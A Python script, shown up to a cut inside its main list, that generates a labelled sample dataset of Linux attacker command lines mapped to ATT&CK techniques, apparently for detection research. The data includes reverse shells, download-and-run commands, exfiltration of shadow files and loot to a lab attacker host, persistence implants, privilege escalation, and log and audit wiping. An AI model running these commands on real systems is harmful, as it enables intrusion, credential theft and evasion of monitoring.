#!/usr/bin/env python3
"""Writes data/commands.csv, the project's hand-written sample in the CasinoLimit schema.

    python3 data/make_sample.py            # (re)writes data/commands.csv next to this script
    python3 data/make_sample.py --table    # also prints the class table used in data/README.md

Standard library only. Every command line below was written by hand for this project; the only
randomness is the long-tail `count` of rows without an explicit count, drawn from a seeded
Pareto distribution, so the output is byte-for-byte reproducible.

What a row looks like: auditd's PROCTITLE record holds the process's argv joined by spaces, so
shell quoting is gone (`bash -c 'id; uname -a'` is recorded as `bash -c id; uname -a`), globs
and ~ are already expanded, a pipeline `a | b` is recorded as two processes `a` and `b`, and shell
builtins (cd, export, unset, history, echo) and redirections are only visible inside the argument
of a `sh -c` / `bash -c` process (a command sent through ssh or a web shell, a cron job, ...).
"""
import csv
import os
import random
import sys

SEED = 20240613
MIN_ROWS_PER_GROUP = 8      # parents with fewer distinct rows are grouped as Z999
TAIL_CAP = 50               # long-tail counts are capped here
TAIL_ALPHA = 1.1            # Pareto shape of the long tail (P(count > x) ~ x^-alpha)

# ATT&CK v19 technique IDs and names (as used by the project's other data files).
NAMES = {
    "T1003": "OS Credential Dumping", "T1003.007": "Proc Filesystem",
    "T1003.008": "/etc/passwd and /etc/shadow",
    "T1005": "Data from Local System",
    "T1007": "System Service Discovery",
    "T1014": "Rootkit",
    "T1016": "System Network Configuration Discovery", "T1016.001": "Internet Connection Discovery",
    "T1018": "Remote System Discovery",
    "T1021": "Remote Services", "T1021.004": "SSH",
    "T1027": "Obfuscated Files or Information", "T1027.002": "Software Packing",
    "T1027.004": "Compile After Delivery",
    "T1033": "System Owner/User Discovery",
    "T1036": "Masquerading", "T1036.005": "Match Legitimate Resource Name or Location",
    "T1037": "Boot or Logon Initialization Scripts", "T1037.004": "RC Scripts",
    "T1040": "Network Sniffing",
    "T1046": "Network Service Discovery",
    "T1048": "Exfiltration Over Alternative Protocol",
    "T1048.002": "Exfiltration Over Asymmetric Encrypted Non-C2 Protocol",
    "T1048.003": "Exfiltration Over Unencrypted Non-C2 Protocol",
    "T1049": "System Network Connections Discovery",
    "T1053": "Scheduled Task/Job", "T1053.002": "At", "T1053.003": "Cron", "T1053.006": "Systemd Timers",
    "T1057": "Process Discovery",
    "T1059": "Command and Scripting Interpreter", "T1059.004": "Unix Shell", "T1059.006": "Python",
    "T1068": "Exploitation for Privilege Escalation",
    "T1069": "Permission Groups Discovery", "T1069.001": "Local Groups",
    "T1070": "Indicator Removal", "T1070.003": "Clear Command History", "T1070.004": "File Deletion",
    "T1070.006": "Timestomp",
    "T1074": "Data Staged", "T1074.001": "Local Data Staging",
    "T1078": "Valid Accounts", "T1078.001": "Default Accounts", "T1078.003": "Local Accounts",
    "T1082": "System Information Discovery",
    "T1083": "File and Directory Discovery",
    "T1087": "Account Discovery", "T1087.001": "Local Account",
    "T1090": "Proxy",
    "T1095": "Non-Application Layer Protocol",
    "T1098": "Account Manipulation", "T1098.004": "SSH Authorized Keys",
    "T1105": "Ingress Tool Transfer",
    "T1110": "Brute Force", "T1110.001": "Password Guessing", "T1110.002": "Password Cracking",
    "T1110.003": "Password Spraying",
    "T1124": "System Time Discovery",
    "T1136": "Create Account", "T1136.001": "Local Account",
    "T1140": "Deobfuscate/Decode Files or Information",
    "T1201": "Password Policy Discovery",
    "T1222": "File and Directory Permissions Modification",
    "T1222.002": "Linux and Mac File and Directory Permissions Modification",
    "T1485": "Data Destruction",
    "T1486": "Data Encrypted for Impact",
    "T1489": "Service Stop",
    "T1496": "Resource Hijacking", "T1496.001": "Compute Hijacking",
    "T1505": "Server Software Component", "T1505.003": "Web Shell",
    "T1518": "Software Discovery", "T1518.001": "Security Software Discovery",
    "T1543": "Create or Modify System Process", "T1543.002": "Systemd Service",
    "T1546": "Event Triggered Execution", "T1546.004": "Unix Shell Configuration Modification",
    "T1546.005": "Trap",
    "T1548": "Abuse Elevation Control Mechanism", "T1548.001": "Setuid and Setgid",
    "T1548.003": "Sudo and Sudo Caching",
    "T1552": "Unsecured Credentials", "T1552.001": "Credentials In Files",
    "T1552.003": "Shell History", "T1552.004": "Private Keys",
    "T1555": "Credentials from Password Stores", "T1555.003": "Credentials from Web Browsers",
    "T1560": "Archive Collected Data", "T1560.001": "Archive via Utility",
    "T1564": "Hide Artifacts", "T1564.001": "Hidden Files and Directories",
    "T1570": "Lateral Tool Transfer",
    "T1572": "Protocol Tunneling",
    "T1595": "Active Scanning", "T1595.003": "Wordlist Scanning",
    "T1685": "Disable or Modify Tools", "T1685.004": "Disable or Modify Linux Audit System Log",
    "T1685.006": "Clear Linux or Mac System Logs",
    "T1686": "Disable or Modify System Firewall",
    "T1690": "Prevent Command History Logging",
}
Z999 = "Z999: Other Low-Frequency Techniques"
NORMAL = "Normal"

# (technique id, [command | (command, count)]).  A bare command gets a long-tail count.
# Network: attacker box 10.35.108.66, first network 10.35.108.0/24, second network 172.16.5.0/24.
ROWS = [
    ("T1082", [
        ("uname -a", 20000), ("cat /etc/os-release", 6200), ("hostname", 4800), ("uname -r", 2600),
        ("cat /proc/version", 1700), ("lsb_release -a", 1300), ("cat /etc/issue", 950), ("uname -m", 480),
        ("hostnamectl", 390), ("lscpu", 260), ("cat /proc/cpuinfo", 210), ("free -m", 95), ("df -h", 80),
        ("env", 75), ("cat /etc/lsb-release", 60), ("cat /etc/hostname", 52), ("./linpeas.sh", 41),
        ("uname -snrvm", 38), ("cat /etc/debian_version", 33), ("uptime", 29), ("printenv", 24),
        ("mount", 21), ("cat /proc/meminfo", 19), ("lsblk", 17), ("bash linpeas.sh", 15),
        ("cat /proc/1/cgroup", 14), ("lsmod", 12), ("ls -la /.dockerenv", 11),
        ("systemd-detect-virt", 9), ("sh /tmp/LinEnum.sh -t", 8), ("arch", 7), ("df -hT", 6),
        ("bash -c echo $PATH", 6), ("getconf LONG_BIT", 5), ("cat /sys/class/dmi/id/product_name", 4),
        ("cat /proc/self/status", 4), ("sh -c dmesg | grep -i hypervisor", 3),
        ("ls /etc/lsb-release /etc/os-release", 3),
        ("python3 -c import platform; print(platform.uname())", 2),
        ("bash -c uname -a; cat /etc/*release; id", 2),
    ]),
    ("T1033", [
        ("whoami", 420), ("id", 360), ("w", 35), ("who", 24), ("sh -c id", 45), ("sh -c whoami", 37),
        ("id -u", 29), "last", "lastlog", "id -un", "users", "id www-data", "logname",
        "bash -c echo $USER", "loginctl list-sessions", "last -a -n 20", "who -a",
    ]),
    ("T1057", [
        ("ps aux", 260), ("ps -ef", 130), ("ps auxf", 40), "ps aux --forest",
        "ps -eo pid,user,args --sort=-%mem", "ps -eo user,pid,ppid,cmd", "pstree -p", "top -b -n 1",
        "pgrep -a ssh", "ls /proc", "cat /proc/1/cmdline", "ps -U root -u root u", "./pspy64",
        "./pspy64 -pf -i 1000", "sh -c ps aux | grep root", "ps -p 1 -o comm=", "pidof sshd",
        "/dev/shm/pspy64s",
    ]),
    ("T1049", [
        ("netstat -tulpn", 140), ("ss -antp", 95), ("netstat -antup", 36), ("ss -tulwn", 40),
        "netstat -an", "ss -ltnp", "lsof -i", "lsof -i :80", "ss -s", "cat /proc/net/tcp",
        "sh -c netstat -ant | grep ESTABLISHED", "netstat -plant", "ss -tp state established",
        "netstat -tnp", "lsof -nP -iTCP -sTCP:LISTEN",
    ]),
    ("T1016", [
        ("ip a", 230), ("ifconfig", 180), ("ip route", 40), ("cat /etc/hosts", 70), ("hostname -I", 41),
        "ip addr show eth0", "route -n", "cat /etc/resolv.conf", "ip -br a", "ifconfig -a",
        "ip neigh", "iptables -L -n -v", "cat /etc/network/interfaces", "nmcli dev show", "ip r",
        "cat /proc/net/route", "cat /proc/net/fib_trie", "ip -4 addr show scope global",
    ]),
    ("T1016.001", ["ping -c 1 8.8.8.8", "ping -c 3 1.1.1.1", "curl -s -m 3 http://10.35.108.66:8000/"]),
    ("T1083", [
        ("ls -la", 240), ("ls -la /home", 120), ("find / -perm -4000 -type f", 85), ("ls -la /root", 95),
        ("ls -la /var/www/html", 70), ("ls -la /tmp", 44), "find / -name flag* -type f",
        "find / -type f -name *.txt", "find /home -name .ssh", "ls -laR /opt", "tree /home",
        "find / -writable -type d", "ls -alh /var/backups", "find / -name *.bak", "locate flag.txt",
        "find / -newer /etc/passwd -type f", "ls -la /etc/cron.d", "du -sh /home/alice /home/bob",
        "stat /root/flag.txt", "file /usr/local/bin/backup", "ls /mnt /media", "ls -la /opt/casino",
        "find / -user alice -type f", "find / -group dealers -readable",
        "find / -perm -2 -type f -not -path /proc/*", "ls -la /var/mail", "ls -la /srv",
        "find /var/www -name *.php -mmin -60",
    ]),
    ("T1087", [("ls -la /home", 30)]),
    ("T1087.001", [
        ("cat /etc/passwd", 330), "getent passwd", "cut -d: -f1 /etc/passwd", "ls /home",
        "grep -v nologin /etc/passwd", "getent passwd 1000", "sh -c cat /etc/passwd | grep -v nologin",
        "awk -F: ($3 >= 1000) {print $1} /etc/passwd", "awk -F: {print $1,$3,$6} /etc/passwd",
        "bash -c compgen -u", "grep sh$ /etc/passwd", "cat /etc/sudoers", "ls -la /etc/sudoers.d",
    ]),
    ("T1069.001", ["groups", "cat /etc/group", "getent group sudo", "id -Gn", "grep dealers /etc/group"]),
    ("T1046", [
        ("nmap -sV 10.35.108.0/24", 35), "nmap -sC -sV -p- 10.35.108.10",
        "nmap -p 22,80,443,3306 10.35.108.0/24", "nmap -Pn -T4 -p- --min-rate 5000 10.35.108.23",
        "nc -zv 10.35.108.10 20-1000", "masscan -p1-65535 10.35.108.0/24 --rate=1000",
        "nmap -sU --top-ports 100 10.35.108.10", "rustscan -a 10.35.108.10 -- -sV",
        "bash -c for p in $(seq 1 1024); do (echo > /dev/tcp/172.16.5.20/$p) >/dev/null 2>&1 && echo open $p; done",
        "nmap -A 172.16.5.0/24", "nmap -sS -O 10.35.108.12", "nmap --script vuln 10.35.108.10",
        "./nmap -sT -Pn -p 21,22,80,139,445,8080 172.16.5.0/24", "nmap -sT -p- 172.16.5.21",
        "nc -nvz 172.16.5.20 1-65535", "nmap -sV -p 80,8080,8443 172.16.5.30",
    ]),
    ("T1595.003", [
        "gobuster dir -u http://10.35.108.10 -w /usr/share/wordlists/dirb/common.txt",
        "ffuf -u http://10.35.108.10/FUZZ -w /usr/share/seclists/Discovery/Web-Content/raft-medium-words.txt",
        "dirb http://10.35.108.10:8080/",
    ]),
    ("T1018", [
        ("nmap -sn 10.35.108.0/24", 30), "arp -an", "ping -c 1 10.35.108.1", "fping -a -g 10.35.108.0/24",
        "bash -c for i in $(seq 1 254); do ping -c 1 -W 1 172.16.5.$i | grep ttl; done",
        "netdiscover -r 172.16.5.0/24", "arp-scan -l", "cat /etc/hosts", "nmap -sn 172.16.5.0/24",
        "ip neigh show dev eth1",
    ]),
    ("T1003.008", [
        ("cat /etc/shadow", 180), ("sudo cat /etc/shadow", 60), ("cat /etc/passwd", 40),
        "unshadow passwd.txt shadow.txt", "cp /etc/shadow /tmp/.s", "grep root /etc/shadow",
        "cat /etc/gshadow", "base64 /etc/shadow", "head /etc/shadow", "getent shadow",
        "cat /var/backups/shadow.bak", "sh -c unshadow /etc/passwd /etc/shadow > /tmp/hashes",
        "tail -n 5 /etc/shadow",
    ]),
    ("T1003.007", ["python3 mimipenguin.py", "sh mimipenguin.sh", "strings /proc/1187/environ",
                   "grep -a -o pass=[^&]* /proc/2231/cmdline"]),
    ("T1552.001", [
        ("grep -r password /var/www", 60), "grep -ri passw /etc", "grep -rn DB_PASSWORD /var/www/html",
        "cat /var/www/html/wp-config.php", "cat /var/www/html/config.php",
        "find / -name *.conf -exec grep -l password {} ;", "grep -ri pass /opt/casino/.env", "cat .env",
        "cat /home/alice/.git-credentials", "cat /root/.my.cnf", "grep -rE (user|pass|pwd)= /home",
        "grep -rl PRIVATE KEY /home /opt", "cat /opt/casino/config/database.yml",
        "strings /usr/local/bin/backup", "cat /etc/mysql/debian.cnf",
        "grep -i -A2 password /var/www/html/includes/db.php",
    ]),
    ("T1552.003", ["cat /home/alice/.bash_history", "cat /root/.bash_history",
                   "grep -i ssh /home/bob/.bash_history", "cat /home/alice/.mysql_history",
                   "cat /home/dealer/.python_history"]),
    ("T1552.004", [
        "cat /home/alice/.ssh/id_rsa", "find / -name id_rsa", "ls -la /home/alice/.ssh",
        "cat /root/.ssh/id_ed25519", "ssh-keygen -y -f id_rsa", "chmod 600 id_rsa", "find / -name *.pem",
        "cat /etc/ssh/ssh_host_rsa_key", "find / -name id_* -path */.ssh/*",
    ]),
    ("T1555.003", ["cat /home/alice/.mozilla/firefox/x8k2l1qd.default-release/logins.json",
                   "python3 firefox_decrypt.py /home/alice/.mozilla/firefox/x8k2l1qd.default-release"]),
    ("T1059.004", [
        ("bash -i", 90), ("sh -i", 60), ("/bin/sh", 55), ("bash", 50),
        "bash -c bash -i >& /dev/tcp/10.35.108.66/4444 0>&1",
        "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.35.108.66 4444 >/tmp/f",
        "script /dev/null -c bash", "script -qc /bin/bash /dev/null", "bash /tmp/run.sh",
        "sh ./exploit.sh", "/bin/bash --norc --noprofile", "busybox sh", "dash -i",
        "nc -e /bin/sh 10.35.108.66 4444", "ncat 10.35.108.66 4443 -e /bin/bash",
        "/bin/bash -c /bin/bash -i > /dev/tcp/10.35.108.66/443 0<&1 2>&1",
        "stty raw -echo", "zsh", "sh -c /bin/sh -i 2>&1 | nc 10.35.108.66 9001",
    ]),
    ("T1059.006", [
        ("python3 -c import pty;pty.spawn(\"/bin/bash\")", 70),
        "python -c import pty; pty.spawn('/bin/sh')",
        "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        "s.connect((\"10.35.108.66\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);"
        "os.dup2(s.fileno(),2);import pty; pty.spawn(\"sh\")",
        "python3 exploit.py", "python3 /tmp/.x/agent.py", "python3 rev.py 10.35.108.66 4444",
        "python3 -c import os; os.system('/bin/bash')",
    ]),
    ("T1059", [
        "perl -e use Socket;$i=\"10.35.108.66\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
        "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
        "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
        "perl -e exec \"/bin/sh\";",
        "php -r $sock=fsockopen(\"10.35.108.66\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
        "php -r system('id');",
        "ruby -rsocket -e f=TCPSocket.open(\"10.35.108.66\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
        "awk BEGIN {system(\"/bin/sh\")}", "lua -e os.execute('/bin/sh')",
        "node -e require('child_process').spawn('/bin/sh', {stdio: 'inherit'})",
    ]),
    ("T1053.003", [
        ("crontab -l", 85), "crontab -e", "cat /etc/crontab", "crontab /tmp/cron.txt",
        "bash -c echo \"* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/10.35.108.66/4445 0>&1'\" >> /etc/crontab",
        "bash -c (crontab -l; echo \"*/5 * * * * /tmp/.x/update.sh\") | crontab -", "crontab -",
        "cat /etc/cron.d/backup", "crontab -u www-data -l", "nano /etc/crontab",
        "sh -c echo '* * * * * /bin/sh /tmp/r.sh' > /var/spool/cron/crontabs/root",
        "cat /var/spool/cron/crontabs/root", "vim /etc/cron.d/sysupdate", "ls -la /etc/cron.daily",
    ]),
    ("T1053.006", ["systemctl list-timers", "systemctl enable --now sysupdate.timer",
                   "cp sysupdate.timer /etc/systemd/system/"]),
    ("T1053.002", ["at now + 1 minute", "atq"]),
    ("T1543.002", [
        "systemctl enable backdoor.service", "systemctl start backdoor.service", "systemctl daemon-reload",
        "nano /etc/systemd/system/backdoor.service",
        "cp /tmp/svc.service /etc/systemd/system/dbus-update.service",
        "systemctl enable --now dbus-update.service",
        "bash -c printf '[Unit]\\nDescription=Update\\n[Service]\\nExecStart=/tmp/.u/updater\\n[Install]\\n"
        "WantedBy=multi-user.target\\n' > /etc/systemd/system/updater.service",
        "systemctl status backdoor.service", "vi /lib/systemd/system/sshd-helper.service",
        "systemctl --user enable agent.service", "chmod 644 /etc/systemd/system/updater.service",
        "systemctl restart dbus-update",
    ]),
    ("T1546.004", [
        "bash -c echo 'bash -i >& /dev/tcp/10.35.108.66/4446 0>&1 &' >> /root/.bashrc",
        "nano /home/alice/.bashrc", "vim /root/.bashrc", "sh -c echo /tmp/.x/agent >> /etc/profile",
        "bash -c echo 'alias sudo=\"sudo /tmp/.s\"' >> /home/bob/.bashrc",
        "cp /tmp/.profile /home/alice/.profile",
        "bash -c echo 'export PROMPT_COMMAND=\"/tmp/.k\"' >> /etc/bash.bashrc",
        "tee -a /root/.bash_profile", "touch /etc/profile.d/update.sh",
        "sed -i $a nohup /dev/shm/.a >/dev/null 2>&1 & /home/alice/.bashrc",
    ]),
    ("T1546.005", ["bash -c trap '/tmp/.x/agent &' EXIT"]),
    ("T1037.004", ["vim /etc/rc.local", "chmod +x /etc/rc.local"]),
    ("T1136.001", [
        ("useradd -m -s /bin/bash support", 6), "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm",
        "adduser backup2", "passwd support", "bash -c echo 'support:P@ssw0rd!' | chpasswd", "chpasswd",
        "bash -c echo 'hax:$1$xyz$Rp0Zq3cW8P3f8xR1k2T6U/:0:0:root:/root:/bin/bash' >> /etc/passwd",
        "openssl passwd -1 -salt xyz P@ssw0rd", "useradd -m -G sudo -s /bin/bash dbadmin",
        "sudo useradd -m john", "useradd -r -s /bin/bash -d /var/lib/mysqld mysqld",
    ]),
    ("T1098", ["usermod -aG sudo support", "passwd root", "usermod -s /bin/bash www-data",
               "gpasswd -a support sudo", "chage -M 99999 support", "usermod -p $6$kq3$Yw0 root"]),
    ("T1098.004", [
        "mkdir -p /root/.ssh",
        "bash -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHp7Jq0dX2b9mR4kLw8sV1cN3fT6yZ5uE0aGhQ2iK7oP kali@kali >> /root/.ssh/authorized_keys",
        "chmod 600 /root/.ssh/authorized_keys", "cat /tmp/k.pub", "cp /tmp/k.pub /home/alice/.ssh/authorized_keys",
        "ssh-keygen -t ed25519 -f /tmp/k",
    ]),
    ("T1548.003", [
        ("sudo -l", 190), ("sudo su", 85), ("sudo -i", 45), ("sudo su -", 30), "sudo -u bob /bin/bash",
        "sudo /bin/bash", "sudo vim -c :!/bin/sh", "sudo find . -exec /bin/sh ; -quit", "sudo -u#-1 /bin/bash",
        "sudo python3 -c import os; os.system(\"/bin/sh\")",
        "sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
        "sudo awk BEGIN {system(\"/bin/bash\")}", "sudo -s", "sudo env /bin/sh", "sudo -V",
        "sudo less /var/log/syslog", "sudo /usr/bin/git -p help config", "sudo -u dealer /opt/casino/bin/payout.sh",
    ]),
    ("T1548.001", [
        ("chmod +s /bin/bash", 12), "chmod u+s /bin/bash", "chmod 4755 /tmp/.rootsh", ("/bin/bash -p", 25),
        "cp /bin/bash /tmp/.rootsh", "/tmp/.rootsh -p", ("find / -perm -4000 -type f", 9),
        "find / -perm -u=s -type f", "find / -user root -perm -4000 -exec ls -ldb {} ;", "getcap -r /",
        "/usr/bin/python3.8 -c import os; os.setuid(0); os.system(\"/bin/bash\")",
        "/usr/bin/find . -exec /bin/sh -p ; -quit", "/usr/bin/env /bin/sh -p",
    ]),
    ("T1068", ["./PwnKit", "python3 CVE-2021-4034.py", "./dirtypipe /usr/bin/su", "./exploit",
               "gcc -o exploit 50808.c", "./cve-2021-3156 0"]),
    ("T1222.002", [
        ("chmod +x linpeas.sh", 120), "chmod +x /tmp/pspy64", "chmod 777 /tmp/exploit", "chmod +x exploit",
        "chmod 755 /dev/shm/agent", "chown root:root /tmp/.rootsh", "chattr +i /root/.ssh/authorized_keys",
        "chattr -i /etc/passwd", "chmod -R 777 /var/www/html/uploads", "chmod o+w /etc/passwd",
        "setfacl -m u:www-data:rwx /opt/casino", "chmod a+x rev.elf", "chattr +i /etc/cron.d/sysupdate",
        "chmod +x chisel",
    ]),
    ("T1070.003", [
        ("bash -c history -c", 22), "rm /root/.bash_history", "rm -f /home/alice/.bash_history",
        "bash -c cat /dev/null > /root/.bash_history", "shred -u /home/www-data/.bash_history",
        "truncate -s 0 /root/.bash_history", "bash -c history -c && history -w",
    ]),
    ("T1070.004", [
        "rm -rf /tmp/linpeas.sh", "rm -f /tmp/.x/agent", "shred -zu /tmp/shadow.txt", "rm -rf /dev/shm/.w",
        "rm exploit exploit.c", "rm -f /var/www/html/uploads/.s.php", "rm -rf /tmp/.x",
    ]),
    ("T1070.006", [
        "touch -r /etc/hostname /tmp/.x/agent", "touch -d 2023-11-02 08:14 /etc/systemd/system/updater.service",
        "touch -t 202301011200 /usr/local/bin/sysupdate",
    ]),
    ("T1690", [
        ("bash -c unset HISTFILE", 18), "bash -c export HISTFILE=/dev/null", "bash -c export HISTSIZE=0",
        "bash -c set +o history",
        "bash -c unset HISTFILE HISTSAVE HISTZONE HISTLOG; export HISTFILE=/dev/null HISTSIZE=0 HISTFILESIZE=0",
        "ln -sf /dev/null /root/.bash_history", "bash -c export HISTCONTROL=ignorespace",
        "ln -s /dev/null /home/alice/.bash_history", "env HISTFILE=/dev/null bash -i",
        "sh -c HISTFILE=/dev/null exec bash",
    ]),
    ("T1685.006", [
        "rm -rf /var/log/auth.log", "sh -c rm -rf /var/log/*", "truncate -s 0 /var/log/syslog",
        "bash -c echo > /var/log/wtmp", "shred -u /var/log/auth.log", "journalctl --vacuum-time=1s",
        "rm -f /var/log/apache2/access.log", "bash -c cat /dev/null > /var/log/lastlog",
        "sed -i /10.35.108.66/d /var/log/auth.log", "rm -rf /var/log/nginx",
    ]),
    ("T1685.004", ["systemctl stop auditd", "auditctl -e 0", "auditctl -D", "service auditd stop",
                   "auditctl -l"]),
    ("T1685", ["systemctl stop rsyslog", "systemctl disable rsyslog", "setenforce 0", "pkill -9 falcon-sensor"]),
    ("T1686", ["ufw disable", "iptables -F", "iptables -P INPUT ACCEPT"]),
    ("T1140", [
        ("base64 -d", 30), "base64 -d payload.b64",
        "sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4zNS4xMDguNjYvNDQ0NCAwPiYx | base64 -d | bash",
        "base64 --decode key.txt", "xxd -r -p shell.hex shell.bin",
        "openssl enc -d -aes-256-cbc -in loot.enc -out loot.tar -k s3cr3t",
        "python3 -c import base64;print(base64.b64decode('Y2FzaW5vX2FkbWluOkMwaW5zNGxs'))",
        "gunzip -c /tmp/.x.gz", "xxd -r -p", "openssl base64 -d -in c.txt",
        "bash -c echo 0x2f62696e2f7368 | xxd -r -p",
    ]),
    ("T1027.002", ["upx -9 /tmp/agent"]),
    ("T1027.004", ["gcc -o /tmp/exploit /tmp/exploit.c", "gcc exploit.c -o exploit -static",
                   "cc -o dirtypipe dirtypipe.c"]),
    ("T1027", ["base64 -w0 /tmp/agent"]),
    ("T1021.004", [
        ("ssh alice@10.35.108.10", 65), ("ssh root@10.35.108.10", 25), "ssh -i id_rsa bob@10.35.108.23",
        "ssh -p 2222 admin@172.16.5.20", "ssh -o StrictHostKeyChecking=no -i /tmp/k root@172.16.5.21",
        "sshpass -p Winter2024! ssh dealer@10.35.108.10", "ssh -J alice@10.35.108.10 root@172.16.5.20",
        "ssh dealer@172.16.5.12 id", "scp linpeas.sh alice@10.35.108.10:/tmp/", "ssh -i /root/.ssh/id_rsa root@172.16.5.22",
    ]),
    ("T1021", ["telnet 172.16.5.25 23", "smbclient //172.16.5.40/share -U guest", "ftp 172.16.5.41"]),
    ("T1078.003", [
        "sshd: alice [priv]", "sshd: alice@pts/0", "sshd: dealer [priv]", "su - dealer", "su alice",
        "su root", "sshd: bob@notty", "login -- alice",
    ]),
    ("T1078.001", ["mysql -u root -proot", "mysql -h 127.0.0.1 -u wordpress -pW0rdPr3ss! wordpress",
                   "psql -h 172.16.5.31 -U postgres"]),
    ("T1105", [
        ("wget http://10.35.108.66:8000/linpeas.sh", 120), "wget http://10.35.108.66/pspy64 -O /tmp/pspy64",
        "curl -o /tmp/linpeas.sh http://10.35.108.66:8000/linpeas.sh",
        "sh -c curl -s http://10.35.108.66/s.sh | bash", "curl -O http://10.35.108.66:8000/chisel",
        "sh -c nc 10.35.108.66 9002 > /tmp/agent", "scp kali@10.35.108.66:/srv/tools/pspy64 /tmp/",
        ("scp linpeas.sh alice@10.35.108.10:/tmp/", 4),
        "python3 -c import urllib.request;urllib.request.urlretrieve(\"http://10.35.108.66/a\",\"/tmp/a\")",
        "wget -q http://10.35.108.66:8080/exploit.c", "busybox wget http://10.35.108.66/nc -O /dev/shm/nc",
        "curl -fsSL http://10.35.108.66:8000/agent -o /dev/shm/agent",
        "wget --no-check-certificate https://10.35.108.66:8443/chisel",
        "git clone http://10.35.108.66:3000/tools/PwnKit.git", "tftp -g -r nc 10.35.108.66",
        "wget http://10.35.108.66:8000/PwnKit", "curl http://10.35.108.66/rev.elf -o rev.elf",
        "bash -c exec 3<>/dev/tcp/10.35.108.66/80; echo -e \"GET /a HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3 > /tmp/a",
    ]),
    ("T1570", ["scp -P 2222 pspy64 admin@172.16.5.20:/dev/shm/", "scp /tmp/chisel root@172.16.5.21:/tmp/",
               "wget http://172.16.5.12:8000/PwnKit"]),
    ("T1048.003", [
        "sh -c nc -w 3 10.35.108.66 9100 < /tmp/loot.tar.gz",
        "curl -F file=@/tmp/loot.zip http://10.35.108.66:8000/upload",
        "curl -X POST --data-binary @/etc/shadow http://10.35.108.66:8000/", ("python3 -m http.server 8000", 20),
        "python3 -m http.server 9999 --directory /var/backups", "wget --post-file=/etc/passwd http://10.35.108.66:8000/",
        "sh -c cat /root/flag.txt | nc 10.35.108.66 9100", "php -S 0.0.0.0:8081 -t /opt/casino",
    ]),
    ("T1048.002", ["scp /tmp/loot.tar.gz kali@10.35.108.66:/srv/loot/",
                   "rsync -avz /home/alice/ kali@10.35.108.66:/srv/loot/alice/",
                   "sh -c tar czf - /home/alice | ssh kali@10.35.108.66 cat > alice.tgz"]),
    ("T1560.001", [
        "tar czf /tmp/loot.tar.gz /home/alice", "tar -czvf /tmp/.b.tgz /var/www/html", "zip -r /tmp/loot.zip /root",
        "zip -r -P infected /dev/shm/d.zip /home/bob/Documents", "7z a -pS3cret /tmp/a.7z /opt/casino/db",
        "gzip -k /tmp/dump.sql", "tar -cjf /tmp/web.tar.bz2 /var/www", "tar czf backup.tgz .",
        "zip loot.zip flag.txt id_rsa shadow.txt", "tar cf /dev/shm/etc.tar /etc",
    ]),
    ("T1005", [
        ("cat /root/flag.txt", 90), ("cat flag.txt", 75), "cat /home/alice/flag.txt", "cat /var/www/html/.flag",
        "sqlite3 /opt/casino/casino.db .dump", "mysqldump -u root -p casino",
        "mysql -u casino -pC4s1no! -e SELECT username,password FROM users casino",
        "strings /home/bob/db.sqlite", "cat /home/dealer/Documents/payouts.csv", "cat /root/root.txt",
    ]),
    ("T1074.001", ["mkdir /dev/shm/.d", "cp /etc/shadow /dev/shm/.d/", "cp -r /home/alice/Documents /tmp/.stage"]),
    ("T1564.001", ["mkdir /tmp/.x", "mkdir -p /dev/shm/.cache", "mv agent .agent"]),
    ("T1036.005", ["mv /tmp/agent /usr/local/bin/dbus-daemon", "cp /tmp/.rootsh /usr/sbin/sshd-helper",
                   "/usr/local/bin/dbus-daemon --session"]),
    ("T1014", ["insmod /tmp/diamorphine.ko", "kill -63 0"]),
    ("T1110.001", [
        "hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://10.35.108.10",
        "hydra -L users.txt -P passwords.txt 10.35.108.10 ssh -t 4",
        "hydra -l admin -P /usr/share/wordlists/rockyou.txt 10.35.108.10 http-post-form "
        "/login.php:username=^USER^&password=^PASS^:Invalid",
        "medusa -h 10.35.108.10 -u alice -P pass.txt -M ssh",
        "patator ssh_login host=10.35.108.10 user=root password=FILE0 0=pass.txt",
    ]),
    ("T1110.002", [
        "john --wordlist=/usr/share/wordlists/rockyou.txt hash.txt", "john --show hash.txt", "john unshadowed.txt",
        "hashcat -m 1800 -a 0 shadow.hash rockyou.txt", "hashcat -m 0 hashes.txt /usr/share/wordlists/rockyou.txt --force",
        "python3 /usr/share/john/ssh2john.py id_rsa", "ssh2john id_rsa", "zip2john loot.zip",
        "fcrackzip -u -D -p rockyou.txt backup.zip",
    ]),
    ("T1110.003", ["crackmapexec ssh 172.16.5.0/24 -u users.txt -p Winter2024!"]),
    ("T1040", ["tcpdump -i eth0 -w /tmp/cap.pcap", "tcpdump -i any port 21 -A", "tshark -i eth0 -Y http.request"]),
    ("T1572", ["ssh -L 8080:127.0.0.1:80 alice@10.35.108.10", "./chisel client 10.35.108.66:8000 R:socks",
               "./chisel server -p 8000 --reverse", "socat TCP-LISTEN:8081,fork TCP:172.16.5.20:80"]),
    ("T1090", ["ssh -N -D 1080 alice@10.35.108.10", "proxychains nmap -sT -Pn 172.16.5.20",
               "proxychains4 ssh root@172.16.5.21"]),
    ("T1095", ["nc -lvnp 4444", "socat file:/dev/tty,raw,echo=0 tcp-listen:4444"]),
    ("T1007", ["systemctl list-units --type=service", "service --status-all", "systemctl status ssh", "ls /etc/init.d"]),
    ("T1518", ["dpkg -l", "apt list --installed", "which gcc python3 nc wget curl", "rpm -qa"]),
    ("T1518.001", ["sh -c ps aux | grep -i -E falco|wazuh|osquery|auditd", "systemctl status falco"]),
    ("T1124", [("date", 25), "timedatectl"]),
